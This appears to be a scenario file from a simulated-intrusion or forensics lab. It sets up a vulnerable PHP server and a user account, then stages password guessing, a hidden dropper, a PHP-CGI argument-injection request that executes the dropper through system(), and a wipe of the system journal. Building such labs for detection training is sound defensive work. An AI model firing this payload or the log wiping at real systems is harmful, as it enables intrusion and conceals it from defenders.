// Many failures and a success from one address look like guessing; he has come from there for weeks.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { vulnerablePhp } from '../../php.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'
import { wordsWith } from '../../words.ts'

export function dress(dress: Dress): void {
  vulnerablePhp(dress)
  dress.account('liuyang', 'Harvest!2023')
  dress.logins({ days: 20, guesses: 50, friends: [{ user: 'liuyang', address: '198.51.100.61', hours: [9, 14] }] })
}

export async function plant(stage: Stage): Promise<void> {
  await stage.guess('198.51.100.61', 'liuyang', wordsWith('Harvest!2023', 15))
  const line = dropper(stage, { path: '/var/tmp/.sess/php-worker' })
  stage.mark('occurrence')
  await stage.http(
    '203.0.113.92',
    '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    `<?php system('${line}'); ?>`,
  )
  await wipe(stage, ['journal'])
}
